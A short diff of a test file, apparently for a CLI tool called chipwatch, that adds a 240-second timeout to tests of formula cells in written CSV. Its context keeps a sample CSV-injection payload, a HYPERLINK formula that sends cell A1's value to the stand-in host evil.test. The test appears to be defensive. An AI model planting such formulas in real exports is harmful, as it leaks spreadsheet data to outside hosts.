@@ -13,7 +13,8 @@ const ROOT = fileURLToPath(new URL('../..', import.meta.url));
 const BIN = join(ROOT, 'bin', 'chipwatch.js');
 const LINK = '=HYPERLINK("http://evil.test/?x="&A1,"click")';
 
-describe('formula cells in written CSV', () => {
+// Each test runs the bin several times (4-8 s each on a loaded 2-core machine).
+describe('formula cells in written CSV', { timeout: 240_000 }, () => {
   let dir: string;
   const cw = (...args: string[]) => {
     const env = { ...process.env };
